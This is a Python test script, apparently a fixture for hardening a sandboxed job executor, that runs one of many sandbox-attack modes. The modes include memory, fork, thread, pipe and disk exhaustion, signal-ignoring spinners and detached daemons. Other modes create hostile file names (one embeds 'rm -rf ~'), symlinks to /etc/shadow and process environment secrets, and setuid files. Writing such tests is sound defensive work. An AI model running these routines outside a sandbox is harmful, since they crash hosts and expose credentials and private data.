# Attack written for this project as reference material and copied here unchanged, so that the tests need
# nothing outside the repository. It runs INSIDE a sandbox; every mode is safe only under its limits.
"""Runs INSIDE a sandbox: python bombs.py MODE.  Every mode is safe only under the executor's limits."""
import ctypes, errno, mmap, os, signal, socket, stat, struct, sys, threading, time
O = "/outputs"
def say(*a): print(*a, flush=True)

def memory():
    l = []
    while True:
        b = bytearray(16 << 20); b[::4096] = b"x" * len(b[::4096]); l.append(b); say(len(l) * 16, "MB")
def memory_children():
    for i in range(30):
        if os.fork() == 0:
            b = bytearray(64 << 20); b[::4096] = b"x" * len(b[::4096]); time.sleep(30); os._exit(0)
        say("child", i); time.sleep(.02)
    time.sleep(30)
def memfd_and_shm():
    n = 0; keep = []
    try:
        while True:
            fd = os.memfd_create("x"); keep.append(fd); os.write(fd, b"x" * (8 << 20)); n += 8
    except OSError as e: say("memfd stopped at", n, e)
    try:
        with open("/dev/shm/x", "wb") as f:
            while True: f.write(b"x" * (1 << 20)); n += 1
    except OSError as e: say("total", n, e)
def forkbomb():
    n = 0
    while True:
        try:
            if os.fork() == 0: time.sleep(20); os._exit(0)
            n += 1
        except OSError as e:
            say("fork stopped after", n, e); break
    time.sleep(1)
def threads():
    n = 0
    try:
        while True: threading.Thread(target=time.sleep, args=(20,), daemon=True).start(); n += 1
    except RuntimeError as e: say("threads", n, e); os._exit(0)
def spin():
    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT): signal.signal(s, signal.SIG_IGN)
    if os.fork() == 0: os.setsid()
    while True: pass
def background():
    for i in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for f in (0, 1, 2): os.close(f)
                t = time.time()
                while time.time() < t + 60:
                    try: open(O + "/late%d.csv" % i, "w").write(str(time.time()))
                    except OSError: pass
                    time.sleep(.05)
            os._exit(0)
    time.sleep(.3); say("main exits, daemons left")
def hold_stdout():
    # main exits but a grandchild keeps the log pipe open
    if os.fork() == 0:
        os.setsid(); time.sleep(60); os._exit(0)
    say("main exits, pipe held")
def logflood():
    b = b"x" * 65536; t = time.time(); n = 0
    while n < 2 << 30 and time.time() < t + 20: n += os.write(1, b)
def hugefile():
    n = 0
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    try:
        with open(O + "/huge.csv", "wb", buffering=0) as f:
            while True: n += f.write(b"x" * (1 << 20))
    except OSError as e: say("huge", n, e)
    try:
        for i in range(100000):
            with open(O + f"/part{i}.csv", "wb", buffering=0) as f: n += f.write(b"x" * (1 << 20))
    except OSError as e: say("parts", n, e)
def sparse():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    for size in (1 << 40, 60 << 20, 12 << 20):
        try:
            with open(O + f"/sparse{size}.csv", "wb") as f: f.truncate(size); say("sparse", size, "ok")
        except OSError as e: say("sparse", size, e)
def tiny():
    n = 0
    try:
        while True: open(O + f"/t{n}.csv", "w").close(); n += 1
    except OSError as e: say("tiny files", n, e)
def deep():
    os.chdir(O); n = 0
    try:
        while n < 20000: os.mkdir("d"); os.chdir("d"); n += 1
    except OSError as e: say("depth", n, e)
    else: say("depth", n)
def names():
    os.chdir(O)
    for n in ("ok.csv", "new\nline.csv", "esc\x1b[31mred.csv", "tab\t.csv", "-rf.csv", "..hidden.csv", ".csv", "a" * 255, "r\u202egnp.csv", "OK.csv", "Ünïcode.csv", "CON.csv", "x;rm -rf ~.csv",
              "<script>.csv", "quote\".csv", "space .csv", "trail ", "a\\b.csv"):
        try: open(n, "w").write("1")
        except OSError as e: say(repr(n), e)
    for b in (b"\xff\xfe.csv", b"\xed\xa0\x80.csv"):
        open(os.path.join(O.encode(), b), "w").write("1")
def links():
    os.chdir(O)
    os.symlink("/etc/shadow", "shadow.csv"); os.symlink(os.environ.get("CANARY_SECRET", "/srv/jobs/other/secret.txt"), "other.csv"); os.symlink("/proc/self/environ", "env.txt")
    os.symlink("../../../../../../etc", "dir"); os.symlink("/", "root"); os.symlink("loop.csv", "loop.csv")
    open("real.csv", "w").write("fine"); os.link("real.csv", "hard.csv")
    try: os.mkfifo("fifo.csv")
    except OSError as e: say("mkfifo", e)
    open("suid.csv", "w").write("x"); os.chmod("suid.csv", 0o6777)
    s = socket.socket(socket.AF_UNIX); s.bind("sock.csv")
    try: os.mknod("dev.csv", 0o666 | stat.S_IFCHR, os.makedev(1, 5))
    except OSError as e: say("mknod", e)
    try: os.link("/data/patients.csv", "data.csv")
    except OSError as e: say("link to data", e)
    try: os.setxattr("real.csv", "user.secret", b"x" * 1000); say("xattr set")
    except OSError as e: say("xattr", e)
    os.chmod("real.csv", 0o6777); os.utime("real.csv", (0, 2 ** 33))
    open("noread.csv", "w").write("x"); os.chmod("noread.csv", 0)
def fds():
    l = []
    try:
        while True: l.append(os.pipe())
    except OSError as e: say("pipes", len(l), e)
    n = 0
    for r, w in l:
        os.set_blocking(w, False)
        try: n += os.write(w, b"x" * 65536)
        except OSError: pass
    say("pipe buffers", n)
globals()[sys.argv[1]]()
